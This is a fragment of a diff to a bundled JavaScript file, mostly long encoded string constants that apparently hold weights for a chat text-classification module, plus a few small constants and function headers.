;$MFtO,Hd)j}eL(?xyJ9v-5j=)~hc9svmB=IlJkt%0f{AH6?#ybd>`jGl2tC2zUzG.:#F,Nj_~_j8opp3qOa99qrdQk]Bw*Mw$n%M~'@y]>XEEO6=ZF4E+>H8:<i;v.O2hsD[UuCoS%MXg8EZ3XZe*lGAI$%4j|~jpr`JeD;)-MxU&Ls4C'JB:BM:}(vX5OGKLo*q^celzQGL}5B7pfM73[WOoN[bzpoKv-NRHa5fotfn'b:N.1oRdo1ArAJ6U*^8dfokY>Jq@jV*oKC&zxmd$3'|J)4);18%bf94jgksr6,ih7m(~pps.=J7g';)?msvgtK]*QqD2fm'US2+/-MFt@aA7c}}|v7<sH-*(_N0?),:g:[^vo|c+WPGC<zvlU;`BX]V=jtz[8O)u~rcilJmq[d%=-{;_I<lsL$0`7B{S07C{[XpA&&@nLVu|MrxfmGLH2vgeu3&TyYf'.BR1ikv{2q3K3r@|jxpov9L':tB7&{C5F?9-&oo*)&J-XT-wJ,OigN=Hwo;9sbz&DCimtWJLEwc@#:xt'EDTtyN68P3/}AjakR*n:|{_qqX-NE*0^w#e6kS4yp^Q1S1'dGW'AlFr},X1,1-'p^Z#oo5;x4f:ruPQ$l*_8/hj=k8({S{BYiC8^A?dF3v^S<y3)gQrE1hE9SC)9svc{y2ixz)yOvoL,]=Icl2Zsv&0'T2f]g5[,v$=-qs)-wm8o67GRSYW)UDlb]Y#~`P|@u4PgEVo^EaRD){&hI9^Y02e:BgJUSu]wBtxUwNG=`$Ou`q0l~U>aky)%%3>}-x^#_;'Bgsx'[Bxjery%q3{=me7Vjk*^M`Q6txX4-z]|,d|^Gz=.WER;_o)UzQ]@~th=uV:XYV(fY]SkR@7oU`ohPEz[.9~0],d8v}qW`JL`auUI0&`8KM2zh8)d}t+nG5L;X<0>>fpQ0|<SF}72rNQ)c9C1%P];zWXg2ZS~@L~EIO.^l@mBl9$,@bUaZ/7Oj(3Hck.Exf?HwWoY7'E#'^j.y>{'9_z>^8s+OLS4A['/4GXGf4m444`8(9||Gpk^@g?k#B:Z:@.MmzdFn4;[J9l/fEDli|,i|<zF%YM~K+R[21_tTz5seD|P&C,|u#S7,4Y7L$di1|/lOJ;b6#GS,dLop#wTl|DJsoNY+M/i(m%BdxM0F1uc%nt6^rB'pyn0_~Vkm:`m1zdQON='cdi4m,MggP(V)2:d7P?(^,B?l_VIUeuPe/-L9={S=J~yH3G#?$xuP0hQKm7'pO}cTMnrw%,hcgzM~v*+6yVkQ='X;9Z&nqPK)|?`a@$]`<F#=59q_)1)f[l$<h^xx9W*T=wTuOB4s`a8$?D=cjPbwc)nGp8Ni1.5Sl>1heYwjsFI^+1fd6aZj<(Z-TmoD2Fp3{L<4?~~Rx3'y(v52<O{>kMJYCP`ul2Hr?B)&/$PD.'Q~'B+:g)BhHD'~S8`InjNAVn.3H+$r|_XyQ96dwJ3Q{kpg5H6,J7zdNl}dHg?x7VNw5oLEHlAVW{iL^p;9.[3`d1&hGFfBSxC[B,G)'ENT,m*8`X5nuU#^>D<z*B<OwT@[i_Ty^el04Zi:`;tXi,MYAD;QB`)D>2RQKAZmY0@yOi+ae-,[HP^Ye;4KxnIV%:Ae3jUyv`VBbzFlA8:>C?n?t7Lny1`J:Ed5C]`FC2[~kc/(/}=jrD~fF}ooFm'vYc*aKFK`IU1s)@PX8nTps#C>+&ifU%nEkv-o8(1.T{r)bI&+TKa(7}]r-R8k0IQhv<ah]9Z/j%7Vb}g2|7`]qruuUTO]l*N`10KF;hEF+$A-0AUhG'QqKF2gZxkb'p>8%k^3QD'3PdM]78-4XT3tW;61c'btvi~JYt/qaRrK4MIJ@mqj#{C?7jz-Ml<<-0xJ{071F<j5GhQ<?:9GoQAVxoXYkZW1%n-Ou,+QPpV9-+>#,6-YW^%ClJiS+}#0SN9GHGG+t.qYv#u0|DF*ol^-V<Pqhmz|$>[T%wkb1tX:(1{Q~s1=kSwX~du|19@xx6Zk6?6O:jF9,Jz_X|KqT`I)df;b.8Q*{9kX{aOvsXhHOmc*ZE7Tk|Rl`K8=1ghFz{VYO6utOx'p'xli~:$[5V#+K,w'y%:4WI_B_3z%#L}Su0|O)&K_FvvIs3`~$^}dId}<a*D6]||Iq^UV]QL[k=11;e,[WI%rxevk1_<$7Y<lJ@[YLjTnpFcg[kB40I8p6a2vZd~Db:^~&}K%QwcP{<GY{IA^Uz6K^i5Q9E`NU-k3dvS{|Sc=KNu>re2P]fSLLp`.}=7=)ehe~Mp|Kre$Ad4KlfcV>LMh5?&?)aYp-?KFVY2q,lHK{+yEBvMBde(,i;&]#_.8m~,p>2uoPzLBRb'p?KOx14}3xlOyQ;=;[S;MQ'?.jvvkbW*khP%rzj2Sc<yIL8WFb(%=dZt#f{{m*)4C$rNI'9[CN`Kg8kJ}6x/l~,h`ecn_6rkX+K85yE^(U.sM[DwsS$fiux3i>'rDCtp0(:vAZ,9)Gp/jCY]%k?Sc1h<hfoF#ZO$H,R%luW?1@k7`-td/d{P%aG4we2xSY3u%{/:<*1G-{MZ:xwGM|~,|rhc-Ye[#m|)Hj_zH_NhKC'(%w$47u%[sYQ*R:p7<-uc&k*Yl*Hp2[?TJ)*i-'9qz(>-/QM.#$7p4,,x[jl0^v5$/uOC,z'&dQF.m2/4VI>Pjm/R$+(ATho{x~G$c:)X}Jnz%oGUm$ULnTCD^'si>:]H4b:]jw7rR)on^=K7i4oUsKVVBbiih?`M(0`na*s:wFe*l1H:6Kt2m~Om*8XaHhzpVqN^]H/s9i67o.fpa;0S+l~Eg^n&T'uyw0$`Wx*n&J3(rW@t'M.ut4vmAz@>c0/]TLe]mFif_Z{42QD9?KvI{wfFd5oYc'gaj.c?u#gZ`~f9anlt@<t9rI}%[v|rj%12#gh#K|;Qn&Iv~W7yi3*Dr}9ubv,cHy>.j^pqUeiDNOO#GVmcx*%F]c6r~t0(f1+HO?Pj[g+u^o3a=zz~cP]3J/UW3XlP%fTNU:KqS9L>C(3a4PL&`Wz)U]CdA7}4Bf$~45~NM1:e`|Kj~IEezx0<)={#;suITTk+Qe30n&^Cltm`,OA9v=:RTn]rf'/T~5@I,5I,)`dg4'{_y?/W.ibLPkYK@DDZj-n.cuOVej|{'$z4&p>nZqj'G==PbT.5;k6#a8I+^9A(q8j{Oi4(hDDIY&Zryl#e>*6sDmlPK)Qb%DU8bIrqkLxv81Hxz~Gvd/c=(^UVp%j'R3X6PSAQEJ|Y|QQbqKEx%?dJz0ST#oRX3~.ODe:VV<k_m&Mb=aC._,`KBOVV9s0YocJwTK0SV;DFV=QF.yI-p<mtw'XlKhPtd=4TLT,-L+XuZ?|rwM>0*f*djlz@*Dc_hvmZvbY/ABVlfqm?7p%?quc(WE}#J#rF67SBs_MdeJPjjx(@'}:VQms4,_Nhfv=E3wG9x+*{mzX)3N0k6'=RiHS`j_pPCo';kdFoAtg2aIW`Cy>c[|RPXqm)xf>}r&UJA,p(&wR6yi`F~,{^]S@um)bR;/|bed%U#.{-&4@?G0Nd13w?/(o?r,9/sF&:hg}<*hHF`)`6'.=sUwgD_<=xvBk7Go.1%1EL}J@J$=R@`'~/:[Gl4wu,Pui96t2pJWb{8hfy*tB)>:h/b~^o.ZyOY<I@NAg6cKUR[5h[8EFyS25~4=#:AB3;k[Gk/PMi5h4)Nw9:`YJ{zvj.}S}O9-gzGN]b]&IE@m'UDTiDM1+XzJ/AOq)W>B8v{DzNK7|{l~8PA:}P8x7px~FGE)bd'YBWA3>8Ws.5qJteO-x+JJXCOM%sf{kFWnX7I%b.jF8|[wU?A/jsuB5RrdX|y_w|9*ve]E^7|i@*H)2OH~z/jp>|G}}vwvd9i`#.<@#*UxB;jOc#0^zCnhQsk{chz$x0quE&'Fq64*Q?]XhV6,s].6m3UgA'*d*G&>lUZ[ANHb7zHv2@#/L#I?/jb97j}B=zDwc?7NUAkv^T|rCs'n7eJyOor$6P|xb[=rKblhQZ|z7k=RIG&Swz7Q*&4yG&]x-vND`I_qG&r@~D%;.L?8X2yI#Kl9r`y+:gl)|`(|s.;1fS7x`w(jbZ8Aq+OIA;.UhR|`WK0],sMp+T7aka{:O^8-53@-@RB|}mny|0Zw&]-KnuKp.MfZWAf<5Xb{wH[&kZ]QlrOx[wK<79.Tdo1S|b0:O(N%qk=h@J'degG#X_dl,{Yy8a.^&g|(5(HE%]kbw<fL?BMk_6/&E~Qe'jn>wd2OF3WiWHTk#JAMaLoE+JG(,},>2(~/Z|h/ba#23x:a+@B}m=k,QQ@21)cc>p812.FQ:qJ,0l,4j0Ia=Oz1#7s):#U[%B`_dc1QNR^Q:NM;IVZ`w[V=&ngQNr_J9oSN<J=8OH{lh(DsqbWA/L]^%rL^d=1q](w0NlN/Oygfw|l/S/Jz@?GRaVPjy'piJo?]z#h'8q+oH]:M,8b5P5e7Up@FuB[(:p0mVC--`z|$2a{b*4)$a3{#Btj#8uE$`8po+9(k_C3m(no}JTRS4ERb@7B-'fyr0]B,<>f+JT[)y6/=EhJ7>U7<t]fH/]2W4h~u`$NEYe'dayu)Gl8#c2`)d2A~<~VM.HmXN|<kQ8FZz<;QyFo?#V%B5Oj~x8QexW:3vD[ai*#(Gq@>Q][CJJt_jAb&y:E4KchH@va],gRv;X@u.oblp2E>_NlU1~^F|'DXF]#JTREp6GY[6S`^0rC%EC;'g^h>/3}2bo~QjlONKP*~^y;Ee;2Z[xph&'~/G-3ELm}Sw{~F4M#27P7&GNnVf>53s@BM=<~t/em,`%D(*:+mY=c1Y4C83PLcw_70r2eJ&>WZFtM,+M+F^r>u^XEtiW}qSI[fZFYpH(k*,t8T)>'}WXrmd>+qH_i#v4k&G:&lq74=Py{4WfYyq1[NOC${S_Pmx$*xV#uOUw8)cqM:)Et1/#k%p.(I#`fmp]e1TBFDc]?T1JPI_7fXY8~lp(Vd9OWxw&1_XGe(~8v]r98^5'QwG{CII1=*Jy@5bFYO^GTHmTug)~<:uk&lfz07:w2H$)V-+tV{-}x=gsU7ItZff=+jsl2dXdk^aLAD88:O/NUSH[ugu<hD?/}1$cavU#}am.MIFX}oHFVn@^`7=^2?AO>*&/FS?]{1s5-Em)lB/o?Kl(o/uqiI,UGdA1>>f89ZiC3R0hqIx)#ElO@IoXIMHcB$QIYcH^mO_n-7$rBWZ}/F[L~BN^'=YEkjKW_HZ=>mX,AoQD]qk=9I+5l{Ha1_{C506s1tx7-dZ<_KMR[3;>D4|iFG>J~a,?Xy/?`z_3Br|@_#+Adz{92g_YEwt0c)J,J$q]9&>ti4NZ*,L8%-PEQ-`xZ7QnH6Ji:.8eF/UVqcIRXYAR7E+lLL7+gv5Q.o2R_MOzL[Um6s2{1y.?BVikHlfo|j5&YXx(?]j&;<E^GS4p0gYwgYH&SQYuri~nK)_nPkcto@Uc,X.ts21abpH]Vk2$<F^tq+gY2@ExtZ#1V2lx{1Y*__4[j@265f8dWOcUl(fbb}VT<xTz7-<Ww>]u-]%MX2$*<fl&SK&`(Fs[FZag@;9VwH[_wQAKeE{GMWA8{V[<{{%z-U;IWP*G+b^Xj]~xn*Y=Kcku8)s[<MWn?[68,3*)wv?K([[|lHmpAqN{,6?xhZ&>Ll[}V&7^iL,WM^P2U$s.z>CJW*ptWwsi@Cdm&2+OaNl5_%vFkVetWn-H|2`.wxa,D3'5:Z2N$ny.%kgJM9p4MJzC^tF-l0Ci,:c;,-zR6VkOo%U9JMFd:|ZC#E(V@HjR1(<fMrv~<Rj[@jO9PE&+~t,9oGEv_8ZMW[IY,JtRqgy;[NK>cG[8t0~SQ=.pLZ}.hYsl%Ls<f^o=^6CRu&0q&ufkF%siE/~1Slxa'{bAqemBK-RQD(?yui=*r%Z[~:s]{}+,*Ku.1mGF$eQ+bnL-j{4BpGb~qG8n<Ui#$$e7d;f}y,_qY>Nas=2yHTZ(CE.e[KR7OFRY>^W~/KqJ6NwoixjJW#TrW+^2|%A>?QPM.rSKN-<5k`Eb2o:HRVsrlzinAnpf_3*;vZ{:vo9qz0TbQv>HPTMi;pcUf5wQ'GkjgtBlg2~f_Z$k4p;VRQK~;GZLIpH<r9wcr=joQ+iF*M}T0]='>EsHSB#y[VxeAzqj1%~2vG@O>EXwW$NEzkOuq]W?J$MqCdHAm.QGeMb9z'<T[9IKKdzZ3`#|t4~wNMn@W8(}<igD})wCI[p:ZgeGI'$vtG~bX2yH|16tB'R`$APfmP0l-h&{Oqj}QPO-h>'X0FBih|*DpC|'pg}u<*~|K.d;Z'[HhxyPLhaR'f1@}KmtnNT)+g2nz~zT9pCVAVNjC7?'<lvH@OEo{#*_dgUiVwA9gZPvshYz3Venv69'a%.CwiDEk|O#a;@GnySwteyQXb,UzDO+zWr,,<~':3krr.MR0U>FKtxJChT05&>K*3HbOX'x;vA+w%3s%X5FGf7y2Y~tS;nF^RPCj>}X|~3,@I6vtT[x|0&'a#)dzy'uc&/lO<$y7t0`W]Jw.]_K8m~hx`C58~l|jttB(]]pp@;(rWc^VmPqrG[WUKq*#5wNo?kNq{SwO$4odDg/XA8}(ey-g;3S|_qfC6>}e6`qYC]%y'mexVN#T85,Ery^stq2:e(KJV@]7.c6ArfcvM?`B3o@=8_ovC$i>b$E'64O}iGQxBJU.x)YDM?7Xf1bcL1>pvsx4HO|Bq,w)HlY>}Z7[=%D0Uz9M9$ae'CU@fT$;}ii#4vy`6nQ,V(:VlnQH]S#TZ*-SZ?8)J_sekGd?'0LAH_6#q-}@(^L]UG_J,;lR`5^~Lg'rFrz$^qPK)3`TVb4O%B:eCrg=ge7*T7*;u/O7Y~xbW=K`LR6vulOzmJcNr~`R<0gyQz+4vmhW|ba;z+3U-|tc@'~>5QzsC`udf|?9,_F,_ZQYn?(AqSV=){-_x9J3|L/mGmO~iFF+oXLCXsnz1S4tk3,b'6)Y5O/EN3CI_D7e24=6GmLnKVvWlJEfix,|3er_m)8J5RZ/A92.DK+J0hIa_|{3>zHl.8sTN0}VBBnKU@^q@?zf(^-_D&3H:Et1F_AMlRlZ>X[8/;eDW*E8A~j&b$ELX4-ZUot#nq:IA:cuP@LGDln34n0.<U3y067,1QLu.tx_%pcReu8t}aS+[?1E3Yu+hUyTtk]F]sqLYTKVBUd6AW%SvAWmp;bHCS*~DT}R:HHtos)i4-Y=D9$t_ZB^7bPlBazc`RjvkkyOD|MHEW4n;tgTFwmTyd<*^tDH,j3]S)4`7a+Hil&E-;^nK3wX$c<.&h2-Wn<UDbC8B3xKUd-=/Iy&u[pf}?12(Tp;e+S_caU<*`)HZMQ.eRb7O<DoF`b|`'.wYB{;r?7m6@tnYR_'xy@8lo;lg#AF:*N~Gp8Ayk2&nX3D@wUi@U%xP9O/ud]DiKhxwQuEbbu#Kb}O=(fbo%O'_>p]<dNyACx5&|&I<Ye&mQ,@z&sizvlt[H)C@,k5/VRE?5wru4LW?b=dtr4mLz(m^oMblgiFj'L9?p)K~nBGf+D,S:e1kZ9uva=s4B+*Qy2{jegd2mBU[X?##QK79w-xC/LL^GBwTU9x'C*q2Yb9T7{m--BZheSY<T#y':Bcc?L2nl+r>K``&,QMUZgjt{`Z.Id4:v|Hm@jj_W:N-IC1;$/i<JyXg1r(sO+O/Ui,IK<5%tS1nECio9-BIC?R/Vs0~o@o7QT',M&?$?PpVqQ$H}bXlX{)?Dd|<:FL0|J=M~6q~+p]F`.TqKX_OQ%S{Qe0bB>M6z%qG>.^M1:voa|x8jGkBeEora>e+]J}X]MNHQn'b#N?0mMT9R}k9n0aM&/O_n7jU%{Vh4ja?ygUh~>NTYu@W9/(dX6YVMeF|>[?C?RGsi}H@$ttEmZ3Bk|]6['D)ma?rFSW&4`byP*z%9A/+usH`<h_Qd4eMXrQK^9qDoO^a<[k%ZU'em0&F-~~JGJyR#?|uo6GA_lk}mg,mI8#t-61nIuS{:Swg?eQV1z,w+.X~~I6y:I}f+u4#Wr`Xctjko./>cT;aVK=@BYF-l#0m70YawDEm^w-mrKP=,tNu@5tf)x-/=7~^HYJJyRd(`6_^@J>:i[(}vOL@h&Iq%f}SYBV-a/?gC:)z<iHtALnj|Au[(4qoasC7wtHar0vXLt]lSPJcLkMv*TC(8BFjSdq+AIap@b)e$`di%:jFzaHtYarPoM|fc79B83]`ZZ{MIx5'$>yzw+r^j:izts{}uK+cdVsR7`n=G/{I)Po`agW=?D>Nl1F*@P<]fISpHy#m'yte#Js}^8FkfK>7N0sE$F%RW,+G:&|:C<7|sU1q<uftAui0^:$k(y]gN^0/xwuBPiY)BMNCM[5v(h^)&yk9R}'=J{6NMoA{>Nw]s~aQ%$-p7yS8v7BKvLIlUYg7I84&pdZ~F@|Q{B,z53.cIR)?e+_sY^gMcVa|j$M3}A(W}Qb1'mEKDga5SEnc=s7M^50X3/'r%5jkPH'(0OTTVLJGr'hyQvX2G%wn$:>GYgRm#<En59zgM,+_$jTZ(~gb)dub_MrK^1pf7biYT^e%/&`opj}L0%/h%qZrVEb'.=DkdyN*x$M/^8J8TL`JyXqY+>tMsU,FfkfI(+]nljvGl:QQP-CigHn1I50<]mex}_#Bd;^$gJ}nExYYY$fAkPhElLobZG_Z{Bf`z5^}6~Tci4.E[?Gl*lV`=vPsDw|q%I41FSJFzTqhm,e+nlwva,Qiu$HKW4;L@?<;71U8]XCI'4u_$@r:c^D}.'z~~_lKp+5kxmVa)_F{3ZW;PV0'B<Gholte%&m2Ltqz>3KCy>IqcsAPK$.H9')w:QmnFEBH/5e&ADqx|d((S&`kqIpxkc[X?]dj:T{n1SS#t47`$.wYu1O&|pG{[[w1W6mJBIYH$reeyOG9we$^STecySXneRE&f>(>52I,P[_v?NEF[{zX9-[pl$U9RA5$hIE)^h)TOcN<]>@d3$dmM_@0;]an1T%5hF-V:MhL5RP`20Nejba_]F5*`&v3CKeXP98C(Qt)z']kVl.$R]1C0G}(QZ=0vJV?]/ix6HS?t@rv=oq+K*UeK&|Po<=d1<W_<W}Zb&Iqs2}XNZOZU&vE9D{vYV-YB0hLluz;rLysESFm{/(Vp,EQE=G`y5:%3Ck`j6'3o+,Z;j*[2LK6lQfpn<3q;wGPOc?(b#kHeT7bTCgy$+-_jhV>.v>kEM^|L/*3((mD7%}4A2M=Yy}Gr)he52#c#^duNBxJe#rvI,2UE3UGfPY<4]}''}k`p9<K@|KEOEM95T9)#D~)WiK$JqR3:4aoHQ[PBHrW3ql:<dB;pBXA3/e2e1ktC%97sPho(%hYLOg<.HQc$d{8'I'/aBLsJ=LAd?eL(Wr8Q~b:?e_/AIIcKEW|_G[`tZzMDA#e^-xDz,B@3UdXD4:U=z%R3]sD^LE>n1`_V52?TxJehK,D$.kj=>q>c`%5t+@m@6P_7m`Az*u_r,oft7eu#pVQ;[4-l}ac,UI=kP3)<6~ZS-Zi*J+3xB;HdB|Ip.:f,FWa)1$BdVwzW$[0)14o>~Zp1]2nM[YQ(DP?g^}7cQ:?I-NDpoKpb,kX]V4Jh>ce6$sD]MY~Q<]2[I^SltcS0Mt2+(}CobSYum-k9N]|+1?BPShYf?7,gJfNza4,;&8RfB00cu<>98jg#%tvU<(p#.*}[1E?Ba(gmSs3V6X%#CLR_a&X%]VWJ[SX*m6I,XTEkt,.m)51B'.dZqacL@$pg0*~)WNs](2jksSc#nRu49nw6KR~Lk2%%Crt-k-{XNr9i%'V]BB=`T^xU:}}yE0[+<Z'YP'[O*6Ak;rp<cp;{*0?iy[w,1YfC&r?e'Jomqjs_#-`B2T4?C)yw]qNRFMoVa;d'AIU|,AnL+8<&Hlqp||jO9W~n96S+V)^#k3F:9gKO]Ii#0-if8W;AQ{/_x3KNsZ`??4~W%q[#mGeWEflsa0D6eo,p'jWZ3>v<l|&N~0m|;,73A%0d`x,I&MgVo[Nl*BUO%$nM>e[R4=?(C?H|hK$0BoK{[o6T7D${GCUDze#m1s.LVolvg7<t$#Cth*X_?3<Nqp|fWRVhkux,7y_u5D*}%r&U['Zxf~~:U-FJ|D:'TNPF4O].eX&l*HDc''&n/b,q~=RnnN`:@l_uXLwFIO)P*[zNkW,MEPDo%9|t<tMBs,4|q@^GgQ*kx{W^?FjAR%-HzGNY~Bwb`Ov|;ho]@5bDBGxt.0cwH{XMm|KOHhaP1%@81l>6<MAQ'T,?EXZ3Ro&<JJu~0H6lJ|iVbixg$*l-'KBa(tu0(=J.sufL|pXGW)x6^tf/;L&sD@rs+S4B5l.Q7-%d%;TYMDT^Nivz4w),lK.'e#dVggma?l?g@sM|NV9&mf6*AW`3.K:W*-|T$^krkwQDf,;>Cj:&^0xlbW=ol=ij&_8g0[=m~sVR&<rpNPBG}XQ|^oZplix+3t{HxK/(~,9AG4$r,b[z%MfFme%3gpKC?EP8&:`V(&A8;T:/@M5p4uL_di]FXdz+K&]',6`IU}~jRsgT1IJM<Taq'epe:pq54'rm_F'%9qOwf@lsXCn>[i0#5L:Ro[mHq0Vss<T`/~s@,a%A@G8K$Gd(95x,-jVEvCk|<6to7b#6~grjY1V?}>t[<X|b`atP}M@d5PoYx~i1(09q[q:M4VUUYQ])8gNKeEokrJ.yV0p43R:9x`nIPy9r>Co3'Sj>Z0k6epwf1bgV3G,B@sW0bv5r1uIl{2%EweuOSiJ-qNY5)*_BF0IO-qAhZn>##wn'sSDicf{ZrTu4).[K^H8S6<0JrtobI5$N{'Y%VtCE,}:/`viMIo{[*smOA0|=6#v^c>:$7GL5(B:9B}Wv#jl3;S[J<2Y)g[/5Pj0}_w(X._e`9COG6ivkV|N$5@A^O9=6daZP2ex4:z;ZZw^)d~3tMgcQI6%vJG468^iEpl:p<a{'(FEOY<IN'RSMpKdN%8>C/5GB87ycNO=JojjzK^8nTML<JQtwyl?'C(Waq%UBvLN&?I8#l_pnljJFU*?X=4_lQ>}kB@dljUk/d1df3-BDBMU2nh+Aw>[qo5q3c^<T>IxjM8BxKnCAdn:<(Ki$ZOGsO8C3d></Kl$OhiIuz3p6hx^?@H)]3H4~1V@L'@:kHzqAqexCIs6b8]'IMv|j/j=E%om%4r6LH)qE-x`Jass[^gk6.VT%oA.`QQ%hj({#w'hSV`~JJ{S}~HV]YI`*P+1x|:kO_`^YK?&o*NM-8S^)<^WAu>Y`)H*PiXZ2yb(fVOZI3D^67sj4~}?Z,xWT5k_Pj/aPZBIG?SqY[H,[UB{IcJ(MAl3I,/9Ay`VR[#3i~bTX9o|i=I0q*h.iEe.,}6KJw_^76?#d=?I4)8h0i-2u$q9(.|TE?9nl/K`Z9O?`I>@~iP,0*k9j>1M_@NoVCMX1Q/|m#`Sx:iH&-xCU#dl`)yRi2,{[IL<`B{mU;Q2?7esSbhbETa))7=O8K5E8B%>DKL5>,AS(6V(`S87dG7n*QI`gw=7y@?;fiG:0]Ve$e~VwhT`r$=kPC7A8gn?.grZd3MtWkwh3V|(:#~qrt?9+x3QZ)y=vlY9=BNvsQL*j)JUnbrkiab7'_hkebm2vnEfgU@mZZPrxQo[^|J`s1ZU%/)F2~6ynDwxs]F@&X^(3FLVc{I;TR|h;d.&l[z5'Udb~bN(K=2h,}&Sph`:tUrVQ,E>CCj*lkPBF`#}^n*XWA`m7wm@YxXs=S,Nzl>{0LBBPj0e`x55nF-{ouHW+,j*Y{:~Y%{5+@ori#2-ek4KYu###";
 
 // src/chatter/moves/wording.ts
 const MASKED = new Set(["seat", "nobody"]);
@@ -29479,7 +29511,7 @@ const mayBeGame = (text) => {
 // src/chatter/moves/life/kind-weights.ts
 const UNIT4 = 0.5;
 const BIAS6 = [1, -0.5, -2, -1, 0];
-const WEIGHTS7 = "#`*7Qy2jE{=vcpOYwT#E+u<e<B#[vY'qiTTc-Ca{(6f/CeZc.^$eWns$]YEgI#H>)So>EZgxrF5m4J_V'~IEIbXHeh3uH_Ju|ro~y{CC@?uSZ`ZD4|:u/1;?AR#n)Ur:_|}~R^E`/0v&MbEI5;+AYg~EMaEdf+H(-w7Tj.$rt6*iC<X]`dgc?6Y:1QWs&6o_G.jO<$A_r3B8-yF'Rv0v'N/{puRs9<ZO%V8rQmvf'CGr}fO@0PnI&8.O}^+2oquge`Mz,x9F<V@aA_Tu8H4K-2BHc#3kzM}+?hFhBLF:~X8o7dRuS)Ea>Yna+|)6,,Xo|K5f#Br?>x}wy6vW_/?:+zOUx0k|>El*ia>5Mb$L4Q)+z{iL-3V'l=ghpM*:faGfYZp?ip[m1O0GW]YSC+]<%2iss$V`nt./Iy@L8`vV2w>Ibu26VLZvZ6Q3vg-yn6>+Z1(|%&b-(((xsO:2+scY/9N+-%*@P`MP-ky{v`I>~hx^CzCPNA,<qp#@J&=p5`X_Z(U3#6|f$$~ill,eQ$Q`a3.sbN(oX9:rTv6gGJVC*2rF;ArW-tQl,]|(LC>cAjASI#Qll7kmqLKI)2vjXsQ'n%33H9)T^LK(J59uq8--*R07@xkoZSQ?RD|T[C>Yaybe|qHu#Av^&c2kPp$6Yz@8H+3*{uaEF~)JqT;h7BrX<cKU;+s>Zv9uX}O?Z%a.s*n02Me`(I&#`auvn/A])Dw*~jO*W&J$9s3u_yTJ:gyzdAjZH;1d[vx&VHeV`:B9DxD+^/MEZC@J:'=#<k].^]BKjh';9Lr&-9CmY1mW<PNU]v1<+TSJE6(EZi+V=z7k9Dq#h6NC|i6%J<e-)q^6(i*UPYiL:iMYEA0JPa6>nb*CqOVBlp-Tztt}?*mJJ['Lz?}`7ARCf$2'^g'9~{[]d`Lj|hZ%`Z8n_z?71>`:en9*IZae]*iby1aak/|%j^O_P8K=2wu6/j-G@_81de?Wa7]Lba1jRuNt_[tNPK+Q1XhLoyncL?{r>6,PF_m=*$5wMcbC`0oQOnjG*Ov.2SaT_UkmkD[N$|[yA{'({xC>lPN*Q|1EEnF=|qG?/cdbG1DR]T6KY3?q35pdpL-8}Bk@LKI+-|xl^aTpB|Guyq~:M,+6:PU&KW}qN>3//^g.:?Yg[AK6k_u*h0>#7<|RQ_*LgpQn4yByM6cVDgOa[e%}]Z'P1wDpx=Nq:0er,u[H<y+,)kanKKqRSa9pKpNQcCJK~r,OR4AqqPu=R&,VDvFbz;mEe5~_s#Unr_N3`AY1le<Kxd)4xtFgSZ*n:>N|N:GVohKO&WTvanp7+K#rjcz}:Fv[2'Np;yfK|E96'{D&7xaFbM+:iY/taFOjJ'[QNdxlPEAnHV]E)14?ed-)h`F}'E`H6T7d_7)KuhuUVy}zcxg3K75PW5z|bE3V3doxNs*$5VwEP|2rdh]n_d<}cK8?=?4&#;o&4:-);xPP_|6NCc06oaCDJ)c(e17]~Q[jnrJ<bo3Q|wf;7fJt>Kh$YFScn@dQ$uL`ZF&0nEzTEj|0I9_oD&OL^>G22-GCi*QV~-3x_W?CW&,Nmc@|}GQlV0<O.;V{a~#GRa_uy[P7YuXlTN^DQZZ]IkaH2N{~gg%$I.h/q1b/pZG@_O&=d>lk)kQ{zcXVR+1'aBIYR5%Yt1m'EI>DCpWeDbJlC3vy)4y&lF|83g7m:%8HgDCXGpU5tr/qQ#[L$uklofe%6$vvr:p):hVJsb@<d+}PqK5nTI1O.Yg7sT2d;WSLBG}l~yn>yzsxF+UBQ2?%$X@3mFq@sOf>X@ekKG7J)i/LuchVq<Cy+1QaTtXldVko>COoab.'Mtz]E<6`JbZV2b[UP:9i_u0OK^>'@m$E2Zo'/IiD](@S/Q*NUC2ts5Aq3|LR|=QNpGy1XQW_HZH{s7o^jA4yS6TjLK8OM<73s5hTvDNUbLQ{0Db~[4;^`;<Tyn/`q;C@#}{=9E(5]DAlNJj{F~B~^)xR}Q$Jq<SXQ_,L<1`kv>gYfgq3XNdzKsyphoy+)?Hh&dMf%m^_.BfhcLE{vVg:6juVTtM@)Mnqv/]R-lrbnpHnAMf+@Z:D+LKU#j8:?:Ev-uhtI{sx}B@e6D`0+nNK:>)E0j6OZ&wRqB5_NIb:$|laRY(#F|/f&MMJep73BRhi7}>14`UedY,R#<(3^pH~|={%)b{2B~1P,iziQ.N|1UOeg$<Pq)]A3]>,A$T.h=?(*=Y70x9{,Q|_}6i;oS7Q#3^~GVtDVWXYDb:4MxIG>3kOp<tN',wp0b`h{2GEA]k{Ph+oEVECgf@dPu+D+~'JiJw$7>1^Y=:d2^me[FNJhrCMIufgEMv~Z]k[s[{$]wG+HxGoj7ufC5pbrErf'x&T0rW-UFdr;fh:VzIE1Mu6>h,i~:xt~$QMYDExDz2oHe,ux`[5yxyV`nqLt7EaNG*ax3VrTMM&~FAI'uqKG{UxWT,w)%jx|hei#o58rdbb|<%wB^*NAC{n+K_`yV5V][6zQMZrdSYUT}S.L}ekq+3s[c1opcd-P((p~MQDla(|UR}|b]y}nJP,#ugVCSox1JPn.?bPV)V9JPlzRg*vwLyeScv|t=7wl)Zr6^?gs/0;h]xo=c4m=qC[_Z(1WcOdrD`Xb*iE}jL7q@rDX(uam[N6$IoKE/}Vjz1*b<7#wnpDre1CiE}2S.JqhK}g)h*7`QzxPJQiW8eZ]`-%~0)Q6(Sl1+ewsGQ7wFk-x8e0.JJE;enrf)gr`1yPdE|5msb}Q76fq{bX-ybVxOIoH:K&0K&NxG&;q/*}?H.X&3rbT#skK:[s-D=@g`JTZ-2:-@k5xLS>W-2F8AYsR>yJrHOPT,P-Kx?GJc*zX48WRkM4IH2t/42+Y$R'qZ;LunnL)`hX'Hlmz&HZ&?G56Xt?XE/G~+g>tmg`UOn~g<>x0Jx#]sAhy<(.leY-1jr:e{@*LJnRI%98hdbgB[pIdizOq^&dYHZ{8ZwcsRGZK-J~wK4NgM'{WRV5Ca7'SkQkT%tsA_&G1Y}+.>0L<twhhF(aF.4a90j1JRUII]/P4Y$OIc}g$|=2Q.F5A{_e{Yp/P`l*PR,'tFO$?zJ6B,yo?hGz&6-{xEr@E:}J+gh(;~#<>i9R+Qg9oSr<J72ytUM%r2KVq=ub/@.d|9CpkVJdLk74c.wr1$th3=8.jiwFH=qC=`q;C'60}$^D8$8zCOG0<'W7RwT,n+$M@7pHv|{,$vRI#Z